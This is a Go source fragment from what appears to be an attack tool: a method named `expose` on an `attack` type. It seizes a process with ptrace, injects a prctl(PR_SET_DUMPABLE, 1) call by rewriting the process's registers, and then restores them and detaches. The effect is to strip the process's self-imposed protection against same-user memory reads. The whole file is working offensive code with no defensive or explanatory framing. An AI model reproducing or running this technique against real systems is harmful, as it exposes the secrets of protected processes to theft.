package main

import (
	"syscall"

	"golang.org/x/sys/unix"
)

// expose has the traced process allow again what it forbade, that others of its user open
// its memory. A tracer may not read there any more either, but it still sets the registers.
func (a *attack) expose() {
	var status unix.WaitStatus
	var regs syscall.PtraceRegs
	_, _, _ = unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, uintptr(a.held), 0, 0, 0, 0) // or it has ended
	if _, err := unix.Wait4(a.held, &status, unix.WALL, nil); err != nil || !status.Stopped() ||
		syscall.PtraceGetRegs(a.held, &regs) != nil {
		return
	}
	before := regs
	before.Rax, before.Orig_rax, before.Rip = before.Orig_rax, ^uint64(0), before.Rip-2 // the call that it waits in
	regs.Rax, regs.Orig_rax, regs.Rip = unix.SYS_PRCTL, ^uint64(0), before.Rip
	regs.Rdi, regs.Rsi = unix.PR_SET_DUMPABLE, 1
	if syscall.PtraceSetRegs(a.held, &regs) == nil && syscall.PtraceSingleStep(a.held) == nil {
		_, _ = unix.Wait4(a.held, &status, unix.WALL, nil) // then there is nothing to open
	}
	a.trace = false
	a.seize(a.held)
	_ = syscall.PtraceSetRegs(a.held, &before)
	_ = syscall.PtraceDetach(a.held)
}
